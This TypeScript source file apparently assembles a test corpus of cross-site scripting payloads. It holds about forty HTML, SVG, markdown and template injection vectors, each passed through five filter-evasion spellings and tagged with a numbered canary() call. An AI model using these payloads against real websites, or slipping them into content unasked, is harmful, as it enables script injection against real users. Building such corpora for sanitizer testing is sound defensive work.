/** Ways to have a browser run a script, with the call in the place of `CALL`. Short, so that they fit a title. */
const VECTORS = [
  '<script>CALL</script>',
  '</title><script>CALL</script>',
  '<script src="data:text/javascript,CALL"></script>',
  '<img src=x onerror=CALL>',
  '<img src="x" onerror="CALL">',
  '"><img src=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<details open ontoggle=CALL>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<input autofocus onfocus=CALL>',
  '<body onload=CALL>',
  '<object data="javascript:CALL"></object>',
  '<embed src="javascript:CALL">',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="javascript:CALL//">',
  '<link rel=stylesheet href="javascript:CALL">',
  '<style>@import "javascript:CALL";</style>',
  '<div style="background:url(javascript:CALL)">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<form action="javascript:CALL"><button autofocus>x</button></form>',
  '<template><img src=x onerror=CALL></template>',
  '[x](javascript:CALL)',
  '[x](  javascript:CALL)',
  '[x](data:text/html,<script>CALL</script>)',
  '[x](vbscript:CALL)',
  '![x](javascript:CALL)',
  '![x](x" onerror="CALL)',
  '<javascript:CALL>',
  '[x]: javascript:CALL\n\n[x]',
  '`<img src=x onerror=CALL>`',
  '{{constructor.constructor("CALL")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it means to be taken for.
  '${CALL}',
  "');CALL;//",
  '--><!--<img src=--><img src=x onerror=CALL//',
];

/** Spellings that filters are known to overlook. */
const SPELLINGS: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.replace(/script|onerror|onload|javascript/gi, (word) => word.toUpperCase()),
  (vector) => vector.replace(/javascript:/gi, 'java&#x09;script&colon;').replace(/ on/g, '/on'),
  (vector) => vector.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (vector) => vector.replace(/javascript:/gi, '\u0001java\nscript:').replace(/<(\w)/g, '<\u200b$1'),
];

/** Every vector in every spelling, each calling with a number of its own. */
export const PAYLOADS: readonly string[] = SPELLINGS.flatMap((spell, way) =>
  VECTORS.map((vector, index) =>
    spell(vector).replaceAll('CALL', `canary(${way * VECTORS.length + index})`),
  ),
);
